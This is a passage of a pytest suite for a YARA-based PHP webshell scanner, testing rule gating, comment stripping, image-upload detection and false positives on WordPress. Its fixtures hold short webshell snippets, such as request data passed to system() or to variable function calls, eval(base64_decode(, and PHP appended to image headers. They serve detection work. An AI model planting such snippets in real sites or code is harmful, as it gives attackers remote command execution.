    (finding,) = [f for f in scanner.scan_bytes("/x.php", content) if f.rule == "eval_decoded"]
    assert len(finding.line) <= LINE_LIMIT
    assert "eval(base64_decode(" in finding.line


def test_users_rule_files_get_the_external_variables(tmp_path):
    rules = tmp_path / "site.yar"
    rules.write_text(
        'rule mailer_here { strings: $m = /mail\\s*\\(\\s*\\$_POST/ nocase '
        'condition: $m and extension == ".php" and filename == "send.php" and filepath contains "/www/" '
        'and filetype == "php" }\n')
    found = Scanner([str(tmp_path)]).scan_bytes("/var/www/send.php", b"<?php mail($_POST['to'], 'x', 'y');")
    assert "mailer_here" in rule_names(found)


def test_the_owner_variable_is_the_open_files_never_the_paths(tmp_path):
    """``owner`` comes from the uid the caller read from the open file: the path, which a customer can swap for a
    symlink to a file of root's between the open and the match, is never looked up."""
    rules = tmp_path / "owner.yar"
    rules.write_text('rule owned_by_nobody { condition: owner == "nobody" }\n'
                     'rule owned_by_root { condition: owner == "root" }\n'
                     'rule owned_by_4242 { condition: owner == "4242" }\n'
                     'rule owner_unknown { condition: owner == "" }\n')
    scanner = Scanner([str(rules)])
    owners = {"owned_by_nobody", "owned_by_root", "owned_by_4242", "owner_unknown"}
    # /etc/passwd is root's: were the path looked up, owned_by_root would match.
    assert set(rule_names(scanner.scan_bytes("/etc/passwd", b"x", uid=65534))) & owners == {"owned_by_nobody"}
    scan = scanner.content_scan("/etc/passwd")
    scan.uid = 0  # set once the caller has opened the file
    scan.feed(b"x")
    assert set(rule_names(scan.findings)) & owners == {"owned_by_root"}
    # An owner no account has is its number; where the caller knows none, the owner is unknown.
    assert set(rule_names(scanner.scan_bytes("/x.php", b"x", uid=4242))) & owners == {"owned_by_4242"}
    assert set(rule_names(scanner.scan_bytes("/etc/passwd", b"x"))) & owners == {"owner_unknown"}


def test_a_broken_user_rule_file_is_named_with_its_line(tmp_path):
    broken = tmp_path / "broken.yar"
    broken.write_text("rule ok { condition: true }\nrule broken { strings: $a = \"x\" condition: $b }\n")
    with pytest.raises(RuleError) as raised:
        Scanner([str(broken)])
    assert str(broken) in str(raised.value)
    assert "(2)" in str(raised.value)


def test_a_missing_rule_file_or_rules_dir_is_named(tmp_path):
    with pytest.raises(RuleError, match="rule file /nonexistent.yar does not exist"):
        Scanner(["/nonexistent.yar"])
    with pytest.raises(RuleError, match="php_content.yar is missing"):
        Scanner(rules_dir=str(tmp_path))


def test_without_yara_the_package_is_named(monkeypatch):
    monkeypatch.setitem(__import__("sys").modules, "yara", None)
    with pytest.raises(RuleError, match="python3-yara"):
        Scanner()


def test_allow_list_is_by_sha256():
    digest = "AB" * 32
    scanner = Scanner(allow_sha256=[digest])
    assert scanner.allowed(digest.lower())
    assert not scanner.allowed("cd" * 32)
    assert not scanner.allowed(None)


# Debian's wordpress package, unpacked by scripts/setup.sh (which make test runs first).
WORDPRESS_TREE = Path(__file__).resolve().parents[4] / ".build" / "clean-debian" / "wordpress" / "usr" / "share" / "wordpress"


def test_debians_wordpress_tree_has_no_finding(scanner):
    assert WORDPRESS_TREE.is_dir(), "scripts/setup.sh unpacks Debian's wordpress package into %s" % WORDPRESS_TREE
    scanned = 0
    findings = {}
    for directory, _dirs, names in os.walk(WORDPRESS_TREE):
        for name in names:
            path = os.path.join(directory, name)
            if os.path.islink(path) or not os.path.isfile(path):
                continue
            with open(path, "rb") as handle:
                found = scanner.scan_bytes(path, handle.read())
            scanned += 1
            if found:
                findings[path] = rule_names(found)
    assert scanned > 1000
    assert findings == {}


def test_a_media_file_with_an_open_tag_by_chance_costs_only_its_php_blocks():
    """A video holds "<?=" by chance every few megabytes: the PHP view takes the block after the tag, not the whole
    file, and a shell after an image header is still found."""
    noise = bytes(range(256)) * 4096
    video = noise + b"<?=" + noise
    blocks = webshell_rules._php_blocks(webshell_rules._FULL_OPEN_TAG, video)
    assert blocks is not None and len(blocks) <= webshell_rules.PHP_BLOCK_LIMIT < len(video)
    assert webshell_rules._php_blocks(webshell_rules._FULL_OPEN_TAG, noise) is None
    # Tags without close tags never make overlapping blocks.
    many = b"<?php " * 100000
    assert len(webshell_rules._php_blocks(webshell_rules._OPEN_TAG, many)) <= len(many) + 1000


# Small real images (made with netpbm from a seeded pixel pattern): a JPEG, a PNG, a GIF and an icon.
IMAGES = Path(__file__).resolve().parent / "fixtures" / "images"
IMAGE_RULES = {"php_after_image_magic", "php_in_image_file"}


def test_real_images_are_not_php():
    scanner = Scanner()
    for image in sorted(IMAGES.iterdir()):
        assert scanner.scan_bytes(WEBROOT + "/wp-content/uploads/" + image.name, image.read_bytes()) == [], image.name


def test_a_request_data_mark_in_the_files_own_bytes_is_no_request_data(scanner):
    # Media whose bytes hold an open tag and, further on, "$v\x02(" by chance (a generated JPEG did): the byte that
    # marks a variable holding request data in the PHP view is not the file's.
    media = b"\xff\xd8\xff\xe0\x97<?=\x9a\x11" + bytes(range(128, 256)) * 8 + b"\xb3$v\x02(\x16\xad" + bytes(range(128, 256))
    assert scanner.scan_bytes(WEBROOT + "/wp-content/uploads/media-1.jpg", media) == []
    assert TAINT not in php_view(b"<?php $v\x02($x); echo \"\x02\";")
    assert b"system($c\x02)" in php_view(b"<?php $c = $_GET['c']; system($c);")


def test_open_tags_in_random_bytes_never_match():
    """Compressed image data holds "<?=" or "<?" by chance: a tag alone, whatever bytes follow it, is no PHP that
    does something."""
    scanner = Scanner()
    rng = random.Random(17)
    headers = (b"", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00", b"\x89PNG\r\n\x1a\n", b"GIF89a", b"\x00\x00\x01\x00")
    tags = (b"<?=", b"<?", b"<? ", b"<?\n", b"<?php ")
    flagged = []
    for number in range(4000):
        data = bytearray(rng.randbytes(2048))
        for _tag in range(12):
            offset = rng.randrange(0, len(data))
            data[offset:offset] = rng.choice(tags)
        data = headers[number % len(headers)] + bytes(data)
        name = "/wp-content/uploads/media-%d%s" % (number, (".jpg", ".png", ".gif", ".ico", ".webp")[number % 5])
        found = scanner.scan_bytes(WEBROOT + name, data)
        if found:
            flagged.append((number, rule_names(found)))
    assert flagged == []


@pytest.mark.parametrize("image", sorted(path.name for path in IMAGES.iterdir()))
def test_a_real_image_carrying_each_familys_payload_is_found(scanner, image):
    header = (IMAGES / image).read_bytes()
    extension = os.path.splitext(image)[1]
    missed = []
    for rule, _path, content in FAMILIES:
        if b"<?" not in content:
            continue
        # Appended to the image (what an upload filter that checks the magic number lets through), and alone in a
        # file named like the image (the fragments of php_after_image_magic start with an image header of their own).
        cases = [(header + content, "php_after_image_magic")]
        if rule != "php_after_image_magic":
            cases.append((content, "php_in_image_file"))
        for data, expected in cases:
            found = rule_names(scanner.scan_bytes(WEBROOT + "/wp-content/uploads/avatar" + extension, data))
            if expected not in found:
                missed.append((expected, content))
    assert missed == []


# Strings split into pieces ($name_1, $name_2, ...) so that YARA anchors each on its rarest text: each piece finds
# its part of what the one string found.
@pytest.mark.parametrize("rule, piece, content", [
    ("request_callable", "$variable_call_1", b"<?php $k = $p; $k($_POST['ice']);"),
    ("request_callable", "$variable_call_2", b"<?php $f = $o->name; $f(getenv('HTTP_X_A'));"),
    ("request_callable", "$variable_call_2", b"<?php $f = $o->name; $f(file_get_contents('php://input'));"),
    ("request_callable", "$variable_call_3", b"<?php $c = $_COOKIE['c']; $f = $o->name; $f(@$c);"),
    ("request_callable", "$result_call_1", b"<?php $q = $_GET[1]; file_get_contents('php' . $q)($_GET[2]);"),
    ("request_callable", "$result_call_2", b"<?php $c = $_POST['c']; create($a)($c);"),
])
def test_each_piece_of_a_split_string_finds_its_part(scanner, rule, piece, content):
    externals = dict.fromkeys(webshell_rules.EXTERNALS, "")
    matched = {string.identifier for match in scanner.php_rules.match(data=php_view(content), externals=externals)
               if match.rule == rule for string in match.strings}
    assert piece in matched


def test_the_pieces_of_a_string_name_the_earliest_line_any_of_them_matched(scanner):
    # $variable_call_1 matches on line 4, $variable_call_3 on line 3: the finding names line 3, as one string would.
    content = b"<?php\n$c = $_GET['c'];\n$f($c);\n$g($_POST['x']);\n"
    (finding,) = [f for f in scanner.scan_bytes("/x.php", content) if f.rule == "request_callable"]
    assert (finding.line_number, finding.line) == (3, "$f($c);")


def _strip_comments_token_by_token(data):
    """The PHP view's comment stripping as first written, one token at a time: what the view must equal."""
    import re  # pylint: disable=import-outside-toplevel
    tokens = re.compile(rb"'[^'\\]*(?:\\.[^'\\]*)*'|\"[^\"\\]*(?:\\.[^\"\\]*)*\"|/\*(?:.*?\*/|.*)"
                        rb"|(?://|#(?!\[))[^\n]*?(?=\?>|\n|$)|\?>", re.DOTALL)
    parts, position, pattern = [], 0, webshell_rules._PHP_OPEN
    while True:
        found = pattern.search(data, position)
        if found is None:
            return b"".join(parts + [data[position:]])
        token = found.group(0)
        if pattern is webshell_rules._PHP_OPEN or token == b"?>":
            parts.append(data[position:found.end()])
            pattern = tokens if pattern is webshell_rules._PHP_OPEN else webshell_rules._PHP_OPEN
        else:
            parts.append(data[position:found.start()])
            if token[:1] == b"'" or (token[:1] == b'"' and b"\\" not in token):
                parts.append(token)
            elif token[:1] == b'"':
                parts.append(webshell_rules._ESCAPE.sub(webshell_rules._unescape, token))
            else:
                parts.append(b"\n" * token.count(b"\n") or b" ")
        position = found.end()


@pytest.mark.parametrize("code", [
    b"<?php $a = 'it''s'; $b = \"x\\x41\" . \"plain // not a comment\"; # gone\n#[Attr] $c = 1; ?> <p>'</p> <?= 2 ?>",
    b"<?php $a = 'never closed; // a comment? no: code after a lone quote\n$b = 1; /* open to the end",
    b"<?php $a = \"never closed \\\" # still code\n$b = 'x'; // c ?> html /* kept */ <? $c = '\\'' ?>",
    b"<?php echo \"a\\\"b\", 'c\\'d'; $d = $x ?: $y; $e = 1 / 2; $f = $g ?? '#'; //?>after",
    b"<?php\r\n// windows\r\n$a = \"\\101\\x7\";",
    b"",
    b"no php at all // here",
])
def test_the_comment_stripping_reads_as_one_token_at_a_time(code):
    assert webshell_rules._strip_comments(code) == _strip_comments_token_by_token(code)


def test_the_comment_stripping_reads_random_bytes_as_one_token_at_a_time():
    # Media and binary files are PHP to the view by a chance open tag: their bytes hold every token and half token.
    pieces = [b"<?php ", b"<?", b"?>", b"'", b'"', b"\\", b"/", b"*", b"#", b"[", b"\n", b"x", b"$a", b" "]
    rng = random.Random(17)
    for _case in range(3000):
        data = b"".join(rng.choice(pieces) for _piece in range(rng.randrange(1, 60)))
        assert webshell_rules._strip_comments(data) == _strip_comments_token_by_token(data), data
    noise = bytes(rng.randrange(256) for _byte in range(1 << 16))
    assert webshell_rules._strip_comments(b"<?php " + noise) == _strip_comments_token_by_token(b"<?php " + noise)


# --- the gated set: php_content_gated.yar matched only where php_content.yar's gate matched -------------------------

def rule_text(rule_set, name):
    source = open(os.path.join(webshell_rules.default_rules_dir(), rule_set)).read()
    return re.search(r"(?ms)^rule %s\b.*?^\}" % name, source).group(0)


def rule_strings(text):
    return dict(line.strip().split(" = ", 1) for line in re.findall(r"(?m)^\s*(\$\w+ = .*)$", text))


def top_level_clauses(condition):
    """The condition's parts joined by a top-level "or" (outside parentheses)."""
    clauses, depth, start = [], 0, 0
    for index, char in enumerate(condition):
        depth += {"(": 1, ")": -1}.get(char, 0)
        if depth == 0 and condition.startswith(" or ", index):
            clauses.append(condition[start:index])
            start = index + 4
    return clauses + [condition[start:]]


def gated_rule_names():
    source = open(os.path.join(webshell_rules.default_rules_dir(), "php_content_gated.yar")).read()
    return re.findall(r"(?m)^rule (\w+)", source)


@pytest.mark.parametrize("name", gated_rule_names())
def test_every_clause_of_a_gated_rule_needs_a_string_the_gate_looks_for_written_the_same(name):
    """Where the gate did not match, no gated rule could have: matching the set only behind the gate loses nothing."""
    gate = rule_strings(rule_text("php_content.yar", "gated_rules_wanted"))
    text = rule_text("php_content_gated.yar", name)
    strings = rule_strings(text)
    condition = " ".join(text.split("condition:", 1)[1].rsplit("}", 1)[0].split())
    gating = {string for string, expression in strings.items() if expression in gate.values()}
    assert gating, name
    for clause in top_level_clauses(condition):
        # the clause is a conjunction one of whose parts is a gating string, or an "or" of gating strings only
        inner = clause[1:-1] if clause.startswith("(") and clause.endswith(")") else clause
        parts = [set(re.findall(r"\$\w+", part)) for part in re.split(r"\band\b", inner)]
        assert any(part and part <= gating for part in parts), (name, clause)


def test_the_gated_set_is_matched_only_where_the_gate_matched_and_the_gate_is_never_a_finding(monkeypatch):
    scanner = Scanner().compile()
    no_gate = b"<?php $url = $scheme . $host; wp_redirect( $url ); $f( $v );"
    assert scanner.scan_bytes("/x.php", no_gate) == []
    assert scanner._gated_rules is None  # not even compiled where no gate matched
    calls = []
    gated = scanner.gated_rules

    class Counting(object):
        def match(self, **kwargs):
            calls.append(kwargs["data"])
            return gated.match(**kwargs)

    monkeypatch.setattr(scanner, "_gated_rules", Counting())
    assert scanner.scan_bytes("/x.php", no_gate) == []
    assert calls == []
    findings = scanner.scan_bytes("/x.php", b"<?php extract($_REQUEST); @die($ctime($atime));")
    assert len(calls) == 1
    assert rule_names(findings) == ["request_through_variable"]
    assert "gated_rules_wanted" not in rule_names(
        scanner.scan_bytes("/x.php", b"<?php $x = 'assert'; echo strlen($x);"))


def test_a_broken_gated_rule_file_fails_when_the_rules_are_compiled_not_at_the_first_gate(tmp_path):
    """The gated set is kept only once a gate matches, but a broken one is named as the others are: before any
    file is matched."""
    own = Path(webshell_rules.default_rules_dir())
    for name in RULE_SETS:
        (tmp_path / name).write_bytes((own / name).read_bytes())
    (tmp_path / "php_content_gated.yar").write_text("rule fine { condition: true }\nrule broken { condition: $none }\n")
    scanner = Scanner(rules_dir=str(tmp_path))
    with pytest.raises(RuleError, match=r"rule file %s does not compile: .*\(2\)" % (tmp_path / "php_content_gated.yar")):
        scanner.compile()
    assert scanner._gated_rules is None
